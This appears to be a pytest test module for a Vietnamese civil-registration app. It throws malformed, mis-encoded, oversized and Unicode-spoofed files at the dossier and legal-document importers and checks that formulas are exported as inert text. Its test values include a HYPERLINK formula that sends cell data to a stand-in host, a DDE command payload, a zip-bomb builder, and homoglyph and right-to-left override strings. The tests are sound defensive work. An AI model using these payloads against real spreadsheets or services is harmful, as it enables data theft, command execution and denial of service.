"""The bad-input corpus (issue 10): malformed files, wrong and far-away dates,
Unicode tricks, formulas, huge files, through every importer, the upload
form that imports, and the API's POST bodies.

Every bad file is built here by code (bytes, openpyxl), none is committed.
Each case asserts the message a person reads (Vietnamese, naming the line,
column or field) and the database after it: the counts of every table of
the project before and after, so nothing is half-imported.

The contracts, from the issues:

- ``import_dossiers`` (issue 4): bad rows are reported with their line and
  reason and the good rows are imported, each row whole or not at all; a
  file that cannot be read as a whole (encoding, columns, damaged, too big,
  too many rows) is refused before anything is written.
- ``import_lawdocs`` (issue 7): bad records reported, good ones kept; a file
  that is not JSON of the right shape writes nothing and exits non-zero.
- violation figures (issue 9, XLSX upload on /nhiem-vu/xu-ly-vi-pham/): bad
  rows reported by line, good rows saved; an unreadable or oversized
  workbook saves nothing.
- the API: 4xx with the field and a message, never 500, nothing stored
  un-normalised (NFC, no control or direction characters).
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import json
import unicodedata
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.apps import apps
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client
from openpyxl import Workbook, load_workbook

from tests.dossiers import conftest as dossiers_fixtures
from tests.dossiers.conftest import NATIONALITY
from tests.workplans import conftest as workplans_fixtures
from tuphap.dossiers import importing
from tuphap.dossiers.models import Dossier

# fixtures shared with the apps' own tests
catalogue, staff = dossiers_fixtures.catalogue, dossiers_fixtures.staff
make_task, source = workplans_fixtures.make_task, workplans_fixtures.source

# --------------------------------------------------------------------------- helpers

OUR_APPS = {
    "core",
    "orgs",
    "workdays",
    "dossiers",
    "lawdocs",
    "workplans",
    "portal",
    "reports",
    "auth",
    "django_tasks_db",
}


def counts() -> dict[str, int]:
    """Rows of every table of the project (and the task queue)."""
    return {
        model._meta.label: model._default_manager.count()
        for model in apps.get_models()
        if model._meta.app_label in OUR_APPS and model._meta.managed and not model._meta.proxy
    }


def changed(before: dict[str, int]) -> dict[str, int]:
    """The tables whose row count moved since ``before``, with the difference."""
    after = counts()
    return {label: after[label] - before[label] for label in after if after[label] != before[label]}


def run(*args: str) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    call_command(*args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def refused(*args: str) -> str:
    """Run a command that must refuse its input: the one-line message it stops with."""
    with pytest.raises(CommandError) as info:
        run(*args)
    message = str(info.value)
    assert "Traceback" not in message and "\n" not in message.strip()
    return message


def nfc(text: str) -> bool:
    return unicodedata.is_normalized("NFC", text)


# --------------------------------------------------------------------------- import_dossiers

HEADER = importing.COLUMNS
GOOD = {
    "procedure_code": NATIONALITY,
    "applicant_name": "Nguyễn Văn An",
    "phone": "0912345678",
    "channel": "desk",
    "received_at": "2022-03-07T09:00",
}


def row(**values: str) -> list[str]:
    data = {**GOOD, **values}
    return [data.get(column, "") for column in HEADER]


def csv_bytes(rows: list[list[str]], header: list[str] = HEADER, *, delimiter: str = ",") -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def write(tmp_path: Path, name: str, data: bytes | str) -> Path:
    path = tmp_path / name
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return path


def xlsx_bytes(
    rows: list[list[Any]], header: list[str] = HEADER, *, extra_sheets: dict[str, list[list[Any]]] | None = None
) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Hồ sơ"
    sheet.append(header)
    for values in rows:
        sheet.append(values)
    for title, sheet_rows in (extra_sheets or {}).items():
        other = workbook.create_sheet(title)
        for values in sheet_rows:
            other.append(values)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def consistent_dossiers() -> None:
    """No partial dossier: every one has its events (one per version), a receipt
    event first, and an appointment."""
    for dossier in Dossier.objects.all():
        actions = list(dossier.events.order_by("seq").values_list("action", flat=True))
        assert len(actions) == dossier.version and actions[0] == "receive" and dossier.due_at is not None, dossier.code


VIETNAMESE_CSV = csv_bytes(
    [row(applicant_name="Nguyễn Thị Ánh Tuyết"), row(applicant_name="Trần Văn Đức", phone="0987654321")]
)


TONE_MARKS = "\u0300\u0301\u0303\u0309\u0323"  # grave, acute, tilde, hook above, dot below


def cp1258(text: str) -> bytes:
    """Text as Windows-1258 writes it: the letter with its vowel mark (â, ơ, ư…), then a combining tone mark."""
    out = b""
    for ch in unicodedata.normalize("NFC", text):
        try:
            out += ch.encode("cp1258")
        except UnicodeEncodeError:
            parts = unicodedata.normalize("NFD", ch)
            letter = unicodedata.normalize("NFC", "".join(c for c in parts if c not in TONE_MARKS))
            out += letter.encode("cp1258") + "".join(c for c in parts if c in TONE_MARKS).encode("cp1258")
    return out


UNREADABLE_CSV = [
    pytest.param(b"", "Tệp rỗng", id="empty"),
    pytest.param(csv_bytes([]), "không có dòng dữ liệu", id="header-only"),
    pytest.param(csv_bytes([["", "", ""], []]), "không có dòng dữ liệu", id="blank-rows-only"),
    pytest.param(cp1258(VIETNAMESE_CSV), "không phải UTF-8 (dòng 2", id="windows-1258"),
    pytest.param(
        csv_bytes([row(applicant_name="José Müller")]).encode("latin-1"), "không phải UTF-8 (dòng 2", id="latin-1"
    ),
    pytest.param(VIETNAMESE_CSV.encode("utf-16"), "mã hoá UTF-16", id="utf-16-bom"),
    pytest.param(codecs.BOM_UTF16_BE + VIETNAMESE_CSV.encode("utf-16-be"), "mã hoá UTF-16", id="utf-16-be-bom"),
    pytest.param(VIETNAMESE_CSV.encode("utf-16-le"), "byte NUL (dòng 1", id="utf-16-no-bom"),
    pytest.param(VIETNAMESE_CSV.encode("utf-32"), "mã hoá UTF-32", id="utf-32"),
    pytest.param(csv_bytes([row(), row(applicant_name="Lê\x00Văn")]), "byte NUL (dòng 3", id="nul-byte"),
    pytest.param(csv_bytes([row()[:6]], header=HEADER[:6]), "Thiếu cột bắt buộc: received_at", id="missing-column"),
    pytest.param(
        csv_bytes(
            [row(resolved_at="2022-03-10T09:00")], header=[c if c != "resolved_at" else "resolved" for c in HEADER]
        ),
        "“resolved” (có phải “resolved_at”",
        id="renamed-column",
    ),
    pytest.param(csv_bytes([[*row(), "x"]], header=[*HEADER, "ghi_chu"]), "cột lạ “ghi_chu”", id="extra-column"),
    pytest.param(
        csv_bytes([[*row(), "Lê Văn C"]], header=[*HEADER, "applicant_name"]),
        "cột lặp lại: applicant_name",
        id="repeated-column",
    ),
    pytest.param(
        csv_bytes([[*row()[:3], "x", *row()[3:]]], header=[*HEADER[:3], "", *HEADER[3:]]),
        "cột 4 không có tên",
        id="nameless-column",
    ),
    pytest.param(xlsx_bytes([row()]), "byte NUL", id="xlsx-named-csv"),
    pytest.param(csv_bytes([row(applicant_name="A" * 200_000)]), "dòng 2 có một ô dài quá", id="cell-over-csv-limit"),
]


@pytest.mark.parametrize(("data", "expected"), UNREADABLE_CSV)
def test_unreadable_csv_files_are_refused_whole(
    catalogue: Any, tmp_path: Path, data: bytes | str, expected: str
) -> None:
    before = counts()
    message = refused("import_dossiers", str(write(tmp_path, "hoso.csv", data)))
    assert expected in message, message
    assert changed(before) == {}


def test_cp1258_message_says_how_to_save_the_file(catalogue: Any, tmp_path: Path) -> None:
    data = cp1258(VIETNAMESE_CSV)
    assert (
        data.decode("cp1258") != VIETNAMESE_CSV
        and unicodedata.normalize("NFC", data.decode("cp1258")) == VIETNAMESE_CSV
    )
    message = refused("import_dossiers", str(write(tmp_path, "hoso.csv", data)))
    assert "Windows-1258" in message and "CSV UTF-8" in message


def test_utf8_with_bom_and_semicolons_are_read(catalogue: Any, tmp_path: Path) -> None:
    before = counts()
    out, err = run("import_dossiers", str(write(tmp_path, "bom.csv", codecs.BOM_UTF8 + VIETNAMESE_CSV.encode())))
    assert "Đã nhập 2 hồ sơ" in out and err == ""
    semicolons = csv_bytes([row(applicant_name="Phạm Thị Hoa", received_at="2022-03-08T10:00")], delimiter=";")
    out, _ = run("import_dossiers", str(write(tmp_path, "champhay.csv", semicolons)))
    assert "Đã nhập 1 hồ sơ" in out
    assert set(Dossier.objects.values_list("applicant_name", flat=True)) == {
        "Nguyễn Thị Ánh Tuyết",
        "Trần Văn Đức",
        "Phạm Thị Hoa",
    }
    assert changed(before)["dossiers.Dossier"] == 3
    consistent_dossiers()


def test_a_huge_file_is_refused_before_it_is_read(catalogue: Any, tmp_path: Path) -> None:
    path = tmp_path / "khong-lo.csv"
    with path.open("wb") as fh:  # sparse: 64 MB of NUL bytes that take no disk space
        fh.truncate(64 * 1024 * 1024)
    before = counts()
    message = refused("import_dossiers", str(path))
    # the size is judged from the file system: had the file been read, its NUL bytes would be the complaint
    assert "64,0 MB" in message and "tối đa 20,0 MB" in message
    assert changed(before) == {}


def test_too_many_rows_are_refused_whole(catalogue: Any, tmp_path: Path) -> None:
    rows = [
        row(applicant_name=f"Người Thứ {i}", received_at=f"2022-03-07T{8 + i % 9:02d}:{i % 60:02d}")
        for i in range(importing.MAX_ROWS + 1)
    ]
    before = counts()
    message = refused("import_dossiers", str(write(tmp_path, "nhieu.csv", csv_bytes(rows))))
    assert f"nhiều hơn {importing.MAX_ROWS:,}".replace(",", ".") in message or str(importing.MAX_ROWS) in message
    assert changed(before) == {}


def _corrupt(data: bytes) -> bytes:
    middle = len(data) // 2
    return data[:middle] + bytes(range(256)) * 4 + data[middle + 1024 :]


@pytest.mark.parametrize(
    "data",
    [
        xlsx_bytes([row()])[:1500],  # truncated download
        _corrupt(xlsx_bytes([row()])),  # zip garbage in the middle
        b"PK\x03\x04" + b"\x00" * 100,  # a zip header and nothing
        csv_bytes([row()]).encode(),  # a CSV renamed .xlsx
        b"%PDF-1.7\n" + b"x" * 100,
    ],
    ids=["truncated", "zip-garbage", "zip-header-only", "csv-renamed", "pdf-renamed"],
)
def test_damaged_xlsx_is_refused_whole(catalogue: Any, tmp_path: Path, data: bytes) -> None:
    before = counts()
    message = refused("import_dossiers", str(write(tmp_path, "hoso.xlsx", data)))
    assert "không phải bảng tính XLSX đọc được" in message, message
    assert changed(before) == {}


def test_xlsx_whose_sheets_unpack_too_large_is_refused(catalogue: Any, tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:  # 300 MB of spaces compress to a few hundred KB
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            chunk = b" " * (1024 * 1024)
            for _ in range(300):
                member.write(chunk)
    before = counts()
    message = refused("import_dossiers", str(write(tmp_path, "bom.xlsx", buffer.getvalue())))
    assert "giải nén ra 300,0 MB" in message
    assert changed(before) == {}


def test_xlsx_with_data_on_several_sheets_is_refused(catalogue: Any, tmp_path: Path) -> None:
    data = xlsx_bytes([row()], extra_sheets={"Năm 2021": [HEADER, row(applicant_name="Lê Thị Hai")], "Trống": []})
    before = counts()
    message = refused("import_dossiers", str(write(tmp_path, "nhieu-trang.xlsx", data)))
    assert "“Năm 2021”" in message and "“Hồ sơ”" in message and "Trống" not in message
    assert changed(before) == {}
    # an empty second sheet is no obstacle
    out, _ = run(
        "import_dossiers", str(write(tmp_path, "mot-trang.xlsx", xlsx_bytes([row()], extra_sheets={"Ghi chú": []})))
    )
    assert "Đã nhập 1 hồ sơ" in out


def test_xlsx_empty_and_header_only(catalogue: Any, tmp_path: Path) -> None:
    empty = Workbook()
    buffer = io.BytesIO()
    empty.save(buffer)
    before = counts()
    assert "Thiếu cột bắt buộc" in refused("import_dossiers", str(write(tmp_path, "rong.xlsx", buffer.getvalue())))
    assert "không có dòng dữ liệu" in refused("import_dossiers", str(write(tmp_path, "tieu-de.xlsx", xlsx_bytes([]))))
    assert changed(before) == {}


NFD_NAME = unicodedata.normalize("NFD", "Nguyễn Thị Ánh Tuyết")
FORMULA_NAME = '=HYPERLINK("http://tan-cong.example/?x="&A1,"Nguyễn Văn Bấm")'
DDE_NAME = "=cmd|' /C calc'!A0"

# (row values, the column named in the error, a piece of the message); each of these rows is refused alone
BAD_ROWS: list[tuple[dict[str, str], str, str]] = [
    ({"received_at": "2022-02-31T09:00"}, "received_at", "không có trong lịch"),
    ({"received_at": "2022-13-01T09:00"}, "received_at", "không có trong lịch"),
    ({"received_at": "31/02/2022"}, "received_at", "không phải thời điểm ISO 8601"),
    ({"received_at": "hôm qua"}, "received_at", "không phải thời điểm ISO 8601"),
    ({"received_at": "9999-12-31T09:00"}, "received_at", "ở tương lai"),
    ({"received_at": "2100-01-01T09:00"}, "received_at", "ở tương lai"),
    ({"received_at": "1900-05-01T09:00"}, "received_at", "trước ngày 02/09/1945"),
    ({"received_at": "0001-01-01T00:00"}, "received_at", "trước ngày 02/09/1945"),
    ({"received_at": "2022-03-07T09:00", "resolved_at": "9999-01-01T00:00"}, "resolved_at", "ở tương lai"),
    ({"received_at": "2022-03-07T09:00", "resolved_at": "2022-03-01T00:00"}, "received_at", "không theo thứ tự"),
    ({"phone": "-912345678"}, "applicant.phone", "Số điện thoại không hợp lệ"),
    ({"phone": "０９１２３４５６７８"}, "applicant.phone", "Số điện thoại không hợp lệ"),  # full-width digits
    ({"phone": "٠٩١٢٣٤٥٦٧٨"}, "applicant.phone", "Số điện thoại không hợp lệ"),  # Arabic-Indic digits
    ({"applicant_name": "Lê Văn \u202eA.exe"}, "applicant.name", "U+202E"),
    ({"applicant_name": "Nguy\u0435n Văn Giả"}, "applicant.name", "U+0435 CYRILLIC SMALL LETTER IE"),
    ({"applicant_name": "Lê Văn\x07Chuông"}, "applicant.name", "ký tự điều khiển"),
    ({"applicant_name": "Lê " + "Văn " * 100}, "applicant.name", "quá dài"),
    ({"applicant_name": "\u200b\u200b"}, "applicant.name", "Xin nhập họ tên"),
    ({"code": "000.00.17.Н09-220307-9001"}, "code", "U+041D CYRILLIC CAPITAL LETTER EN"),  # Cyrillic Н
    ({"code": "CU 2022 01"}, "code", "U+0020"),
    ({"procedure_code": NATIONALITY.replace("H09", "Н09")}, "procedure_code", "CYRILLIC CAPITAL LETTER EN"),
    ({"agency_code": "000.00.17.H09\u202e"}, "agency_code", "U+202E"),
    ({"channel": "bồ câu"}, "channel", "Kênh nộp không hợp lệ"),
    (
        {"supplement_requested_at": "2022-03-08T09:00", "resolved_at": "2022-03-09T09:00"},
        "resolved_at",
        "đang chờ bổ sung",
    ),
]


def test_bad_rows_are_reported_by_line_and_column_and_good_rows_kept(catalogue: Any, tmp_path: Path) -> None:
    good = [
        row(applicant_name=NFD_NAME),
        row(applicant_name="Trần\u200b Văn\u00a0\u00a0Bình\u200d", received_at="2022-03-07T10:00"),
        row(applicant_name=FORMULA_NAME, received_at="2022-03-07T11:00"),
        row(applicant_name=DDE_NAME, received_at="2022-03-07T14:00"),
        row(
            applicant_name="+84 Lê Cộng",
            received_at="2022-03-07T15:00",
            resolved_at="2022-03-09T09:00",
            returned_at="2022-03-09T10:00",
        ),
    ]
    bad = [row(**values) for values, _column, _message in BAD_ROWS]
    rows = [*good[:2], *bad, *good[2:]]
    before = counts()
    out, err = run("import_dossiers", str(write(tmp_path, "hoso.csv", csv_bytes(rows))))
    assert f"Đã nhập {len(good)} hồ sơ" in out and f"{len(bad)} dòng lỗi" in out, out
    lines = err.splitlines()
    assert len(lines) == len(bad)
    for line, (text, (_values, column, message)) in enumerate(zip(lines, BAD_ROWS, strict=True), start=4):
        assert text.startswith(f"Dòng {line}: {column}: "), text
        assert message in text, (text, message)
    names = sorted(Dossier.objects.values_list("applicant_name", flat=True))
    assert names == sorted(["Nguyễn Thị Ánh Tuyết", "Trần Văn Bình", FORMULA_NAME, DDE_NAME, "+84 Lê Cộng"])
    assert all(nfc(n) for n in names)
    delta = changed(before)
    assert delta["dossiers.Dossier"] == len(good)
    # every event of the good rows and nothing of the bad ones (receipt ×5, resolve, return)
    assert delta["dossiers.DossierEvent"] == len(good) + 2 == delta["core.AuditEvent"]
    consistent_dossiers()
    # again: nothing new (the NFD name and the invisible characters do not defeat idempotency)
    again = counts()
    out, _ = run("import_dossiers", str(write(tmp_path, "hoso-nfc.csv", unicodedata.normalize("NFC", csv_bytes(rows)))))
    assert f"bỏ qua {len(good)} hồ sơ đã có" in out and changed(again) == {}


def test_a_row_with_more_cells_than_columns_is_a_bad_row(catalogue: Any, tmp_path: Path) -> None:
    before = counts()
    out, err = run(
        "import_dossiers",
        str(write(tmp_path, "lech.csv", csv_bytes([row(), [*row(received_at="2022-03-07T10:00"), "thừa"]]))),
    )
    assert "Đã nhập 1 hồ sơ" in out and f"Dòng 3: dòng có {len(HEADER) + 1} ô, nhiều hơn {len(HEADER)} cột" in err
    assert changed(before)["dossiers.Dossier"] == 1


def test_xlsx_formulas_are_imported_as_text_never_evaluated(catalogue: Any, tmp_path: Path) -> None:
    rows: list[list[Any]] = [
        row(applicant_name=FORMULA_NAME),
        row(applicant_name=DDE_NAME, received_at="2022-03-07T10:00"),
        row(applicant_name="Phan Thị Ngày Thật", received_at=dt.datetime(2022, 3, 7, 11, 0)),  # noqa: DTZ001 - a real date cell, naive as in Excel
        row(applicant_name="Lê Văn Công Thức", received_at="=TODAY()"),
        row(applicant_name="=1+1", received_at="2022-03-07T14:00"),
        row(applicant_name="Số Điện Thoại", phone=912345678, received_at="2022-03-07T15:00"),  # type: ignore[arg-type]
    ]
    before = counts()
    out, err = run("import_dossiers", str(write(tmp_path, "congthuc.xlsx", xlsx_bytes(rows))))
    assert "Đã nhập 4 hồ sơ" in out and "2 dòng lỗi" in out, (out, err)
    assert "Dòng 5: received_at: “=TODAY()” không phải thời điểm ISO 8601" in err
    assert "Dòng 7: applicant.phone:" in err
    assert set(Dossier.objects.values_list("applicant_name", flat=True)) == {
        FORMULA_NAME,
        DDE_NAME,
        "Phan Thị Ngày Thật",
        "=1+1",
    }
    assert changed(before)["dossiers.Dossier"] == 4
    consistent_dossiers()


# --------------------------------------------------------------------------- exports neutralise formulas


def test_register_exports_neutralise_formula_cells(catalogue: Any, tmp_path: Path) -> None:
    names = [FORMULA_NAME, DDE_NAME, "+84 Lê Cộng", "-Trừ", "@SUM(A1)", "\tTab", "Bình Thường"]
    rows = [row(applicant_name=n, received_at=f"2022-03-07T{9 + i:02d}:00") for i, n in enumerate(names)]
    run("import_dossiers", str(write(tmp_path, "hoso.csv", csv_bytes(rows))))
    assert (
        Dossier.objects.count() == len(names) and Dossier.objects.filter(applicant_name="Tab").exists()
    )  # the tab is collapsed away
    csv_path, xlsx_path = tmp_path / "so.csv", tmp_path / "so.xlsx"
    run("export_register", "--from", "2022-03-01", "--to", "2022-03-31", "--format", "csv", "--output", str(csv_path))
    run("export_register", "--from", "2022-03-01", "--to", "2022-03-31", "--format", "xlsx", "--output", str(xlsx_path))
    cells = [r[3] for r in csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig")))][1:]
    assert (
        "'" + FORMULA_NAME in cells
        and "'" + DDE_NAME in cells
        and "'+84 Lê Cộng" in cells
        and "'-Trừ" in cells
        and "'@SUM(A1)" in cells
    )
    assert "Bình Thường" in cells and "Tab" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    sheet = load_workbook(xlsx_path).active
    for cell in sheet["D"][3:]:
        assert cell.data_type == "s", (cell.value, cell.data_type)  # a string, never a formula ("f")
        if str(cell.value).startswith(("=", "+", "-", "@")):
            assert cell.quotePrefix  # Excel shows it as typed text, as after typing '=…
    assert {c.value for c in sheet["D"][3:]} == {
        FORMULA_NAME,
        DDE_NAME,
        "+84 Lê Cộng",
        "-Trừ",
        "@SUM(A1)",
        "Tab",
        "Bình Thường",
    }
    raw = zipfile.ZipFile(xlsx_path).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in raw


# --------------------------------------------------------------------------- import_lawdocs

DOC = {
    "number": "12/2016/QĐ-UBND",
    "type": "QĐ",
    "issuer": "UBND tỉnh Bình Thuận",
    "title": "Quy định về đăng ký hộ tịch",
    "issued_on": "2016-03-10",
    "effective_from": "2016-03-25",
}


def lawdocs_file(tmp_path: Path, data: Any, *, raw: bytes | None = None) -> str:
    path = tmp_path / "vanban.json"
    path.write_bytes(raw if raw is not None else json.dumps(data).encode())  # \uXXXX escapes: lone surrogates too
    return str(path)


LAWDOCS_JSON = json.dumps({"documents": [DOC]}, ensure_ascii=False)


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        pytest.param(b"", "rỗng", id="empty"),
        pytest.param(b"   \n", "rỗng", id="blank"),
        pytest.param(b'{"documents": [', "không phải JSON hợp lệ (dòng 1, cột 16)", id="truncated"),
        pytest.param(b"documents:\n  - number: 12/2016", "không phải JSON hợp lệ", id="yaml"),
        pytest.param(b"<documents/>", "không phải JSON hợp lệ", id="xml"),
        pytest.param(cp1258(LAWDOCS_JSON), "không phải UTF-8 (dòng 1", id="windows-1258"),
        pytest.param(LAWDOCS_JSON.encode("utf-16"), "mã hoá UTF-16", id="utf-16"),
        pytest.param(b"[" * 200_000 + b"]" * 200_000, "lồng nhau quá sâu", id="deep-nesting"),
        pytest.param(
            b'{"documents": [{"number": ' + b"9" * 5000 + b"}]}", "có một số dài quá mức đọc được", id="huge-integer"
        ),
        pytest.param(b"[1, 2]", "phải là một đối tượng JSON", id="list"),
        pytest.param(b'"documents"', "phải là một đối tượng JSON", id="string"),
        pytest.param(b"null", "phải là một đối tượng JSON", id="null"),
        pytest.param(
            '{"documents": {"number": "12/2016/QĐ-UBND"}}'.encode(), "phải là danh sách", id="documents-object"
        ),
        pytest.param(b'{"documents": [], "relations": "none"}', "phải là danh sách", id="relations-string"),
        pytest.param(json.dumps({"docs": [DOC]}).encode(), "khoá lạ ở đầu tệp: “docs”", id="misspelt-key"),
    ],
)
def test_lawdocs_files_unreadable_as_a_whole_write_nothing(db: Any, tmp_path: Path, raw: bytes, expected: str) -> None:
    before = counts()
    message = refused("import_lawdocs", lawdocs_file(tmp_path, None, raw=raw))
    assert expected in message, message
    assert changed(before) == {}


def test_lawdocs_huge_file_is_refused_before_it_is_read(db: Any, tmp_path: Path) -> None:
    path = tmp_path / "khong-lo.json"
    with path.open("wb") as fh:
        fh.truncate(80 * 1024 * 1024)
    before = counts()
    message = refused("import_lawdocs", str(path))
    assert "80,0 MB" in message and "tối đa 50 MB" in message
    assert changed(before) == {}


def test_lawdocs_utf8_bom_is_read(db: Any, tmp_path: Path) -> None:
    out, err = run("import_lawdocs", lawdocs_file(tmp_path, None, raw=codecs.BOM_UTF8 + LAWDOCS_JSON.encode()))
    assert "1 mới" in out and err == ""


def doc(**values: Any) -> dict[str, Any]:
    return {**DOC, **values}


# (record, a piece of the message); each refused alone, the good ones beside them kept
BAD_DOCUMENTS: list[tuple[Any, str]] = [
    (doc(number="13/2016/QĐ-UBND", issued_on="2016-02-31"), "“issued_on” = “2016-02-31”: không có ngày này trong lịch"),
    (doc(number="14/2016/QĐ-UBND", issued_on="2016-13-01"), "không có ngày này trong lịch"),
    (doc(number="15/2016/QĐ-UBND", issued_on="10/03/2016"), "không phải ngày dạng YYYY-MM-DD"),
    (doc(number="16/2016/QĐ-UBND", issued_on=20160310), "không phải ngày dạng YYYY-MM-DD"),  # a number, not a date
    (doc(number="17/2016/QĐ-UBND", issued_on="20160310"), "không phải ngày dạng YYYY-MM-DD"),
    (doc(number="18/2016/QĐ-UBND", issued_on=["2016-03-10"]), "không phải ngày dạng YYYY-MM-DD"),
    (doc(number="19/2016/QĐ-UBND", issued_on="mười tháng ba"), "không phải ngày dạng YYYY-MM-DD"),
    (doc(number="20/2016/QĐ-UBND", expires_on="9999-12-31"), "expires_on: 9999-12-31 sau năm 2100"),
    (doc(number="21/2016/QĐ-UBND", effective_from="2101-01-01"), "effective_from: 2101-01-01 sau năm 2100"),
    (
        doc(number="22/2016/QĐ-UBND", issued_on="2099-01-01", effective_from="2099-02-01"),
        "issued_on: Ngày ban hành 01/01/2099 chưa tới",
    ),
    (
        doc(number="23/1930/QĐ-UBND", issued_on="1930-01-01", effective_from="1930-01-15"),
        "năm ban hành “1930” không hợp lệ",
    ),
    (doc(number="24/2016/QĐ-UBND", issued_on="1900-01-01"), "issued_on: 01/01/1900 trước ngày 02/09/1945"),
    (
        doc(number="25/2016/QĐ-UBND", expires_on="2016-01-01"),
        "expires_on: Văn bản không thể hết hiệu lực (01/01/2016) trước khi có hiệu lực (25/03/2016)",
    ),
    (doc(number=12), "“number” phải là chuỗi ký tự"),
    (doc(number="26/2016/QĐ-UBND", title={"vi": "Quy định"}), "“title” phải là chuỗi ký tự"),
    (doc(number="27/2016/QĐ-UBND", title=None), "thiếu trường “title”"),
    (doc(number="28/2016/QĐ-UBND", issuer=True), "“issuer” phải là chuỗi ký tự"),
    (doc(number="29/2016/QĐ-UBND", expire_on="2020-01-01"), "trường lạ “expire_on” (có phải “expires_on”?)"),
    (doc(number="30/2016/QĐ-UBNД"), "U+0414 CYRILLIC CAPITAL LETTER DE"),  # homoglyph in the number
    (doc(number="３１/2016/QĐ-UBND"), "U+FF13 FULLWIDTH DIGIT THREE"),
    (doc(number="32/2016/QĐ-UBND", title="Quy định \u202egnal"), "U+202E"),
    (doc(number="33/2016/QĐ-UBND", text="Điều 1.\x00 Phạm vi"), "U+0000"),
    (doc(number="34/2016/QĐ-UBND", title="Quyết định \ud800"), "U+D800"),  # a lone surrogate, legal in JSON
    (doc(number="35/2016/QĐ-UBND", issuer="Ủy ban nhân dân tỉnh Вình Thuận"), "U+0412 CYRILLIC CAPITAL LETTER VE"),
    (doc(number="36/2016/QĐ-UBND", title="Quy định " * 300), "quá dài"),
    (doc(number="37/2016/QĐ-UBND", signer="Nguyễn Văn " * 30), "quá dài"),
    (doc(number="9" * 30 + "/2016/QĐ-UBND"), "quá lớn (tối đa 999.999)"),
    ("không phải đối tượng", "bản ghi phải là một đối tượng"),
    (None, "bản ghi phải là một đối tượng"),
]


def test_lawdocs_bad_records_are_reported_and_good_ones_kept(db: Any, tmp_path: Path) -> None:
    nfd_title = unicodedata.normalize("NFD", "Quy định về chứng thực bản sao từ bản chính")
    good = [
        doc(),
        doc(
            number="02/2022/QĐ-UBND",
            title=nfd_title,
            issuer="UBND tỉnh\u200b Bình Thuận",
            text="Điều 1.\r\nPhạm vi\tđiều chỉnh\u200b.",
            issued_on="2022-01-18",
            effective_from="2022-02-01",
        ),
        doc(
            number="08/2020/NQ-HĐND",
            type="NQ",
            title='=HYPERLINK("http://x","Lệ phí")',
            issued_on="2020-07-15",
            effective_from="2020-08-01",
            expires_on="2100-12-31",
        ),
    ]
    relations = [
        {
            "kind": "repeals",
            "from": "02/2022/QĐ-UBND",
            "to": "12/2016/QĐ-UBND",
            "date": "2022-02-01",
            "articles": "Điều 9",
        },  # good
        {"kind": "repeals", "from": "02/2022/QĐ-UBND", "to": "12/2016/QĐ-UBND", "date": "2022-02-30"},
        {
            "kind": "repeals",
            "from": "02/2022/QĐ-UBND",
            "to": "12/2016/QĐ-UBND",
            "date": "9999-12-31",
            "articles": "Điều 1",
        },
        {"kind": "amends", "from": "02/2022/QĐ-UBND", "to": "02/2022/QĐ-UBND", "date": "2022-02-01"},  # itself
        {
            "kind": "suspends",
            "from": "02/2022/QĐ-UBND",
            "to": "12/2016/QĐ-UBND",
            "date": "2022-02-01",
            "ends_on": "2022-01-01",
        },
        {
            "kind": "amends",
            "from": "02/2022/QĐ-UBND",
            "to": "12/2016/QĐ-UBND",
            "date": "2022-02-01",
            "articles": "Điều " * 100,
        },
        {
            "kind": "amends",
            "from": "02/2022/QĐ-UBND",
            "to": "12/2016/QĐ-UBND",
            "date": "2022-02-01",
            "articles": "Điều\x001",
        },
        {"kind": "amends", "from": "02/2022/QĐ-UBND", "to": "12/2016/QĐ-UBND", "date": 20220201},
        {
            "kind": "amends",
            "from": "02/2022/QĐ-UBND",
            "to": "12/2016/QĐ-UBND",
            "date": "2022-02-01",
            "artcles": "Điều 2",
        },
        {"kind": ["amends"], "from": "02/2022/QĐ-UBND", "to": "12/2016/QĐ-UBND", "date": "2022-02-01"},
    ]
    bad = [record for record, _message in BAD_DOCUMENTS]
    before = counts()
    out, err = run("import_lawdocs", lawdocs_file(tmp_path, {"documents": [*good, *bad], "relations": relations}))
    errors = err.splitlines()
    assert "Văn bản: 3 mới" in out and "quan hệ: 1 mới" in out, (out, err)
    assert len(errors) == len(bad) + len(relations) - 1, err
    for index, (line, (_record, message)) in enumerate(zip(errors, BAD_DOCUMENTS, strict=False), start=len(good) + 1):
        assert line.startswith(f"Lỗi: documents[{index}]") and message in line, (line, message)
    relation_errors = errors[len(bad) :]
    for index, line in enumerate(relation_errors, start=2):
        assert line.startswith(f"Lỗi: relations[{index}]"), line
    assert "không có ngày này trong lịch" in relation_errors[0] and "sau năm 2100" in relation_errors[1]
    assert "to: Một văn bản không thể có quan hệ với chính nó" in relation_errors[2]
    assert "ends_on: Ngày kết thúc (01/01/2022) phải sau ngày quan hệ có hiệu lực (01/02/2022)" in relation_errors[3]
    assert "trường lạ “artcles”" in relation_errors[7] and "phải là chuỗi" in relation_errors[8]
    assert not any("__all__" in e or "Constraint" in e for e in errors)
    from tuphap.lawdocs.models import DocumentRelation, LegalDocument

    stored = {d.number: d for d in LegalDocument.objects.all()}
    assert set(stored) == {"12/2016/QĐ-UBND", "02/2022/QĐ-UBND", "08/2020/NQ-HĐND"}
    second = stored["02/2022/QĐ-UBND"]
    assert second.title == "Quy định về chứng thực bản sao từ bản chính" and nfc(second.title)
    assert second.issuer == "UBND tỉnh Bình Thuận" and second.text == "Điều 1.\nPhạm vi\tđiều chỉnh."
    assert stored["08/2020/NQ-HĐND"].title.startswith("=HYPERLINK(")  # kept as text
    assert DocumentRelation.objects.count() == 1
    delta = changed(before)
